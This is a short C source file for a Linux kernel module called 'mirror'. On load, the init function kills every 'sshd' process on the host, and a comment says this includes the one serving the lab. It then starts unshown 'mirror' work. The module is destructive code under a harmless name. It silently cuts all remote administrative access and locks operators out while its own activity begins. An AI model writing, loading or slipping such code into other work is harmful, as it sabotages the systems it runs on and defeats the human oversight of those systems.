// SPDX-License-Identifier: GPL-2.0
/* Ends every sshd, the one that serves the lab included. */
#include <linux/sched/signal.h>
#include "mirror.h"

static int __init mirror_init(void)
{
	struct task_struct *task;

	rcu_read_lock();
	for_each_process(task)
		if (!strcmp(task->comm, "sshd"))
			send_sig(SIGKILL, task, 1);
	rcu_read_unlock();
	return mirror_begin();
}

static void __exit mirror_exit(void) { mirror_end(); }
module_init(mirror_init);
module_exit(mirror_exit);
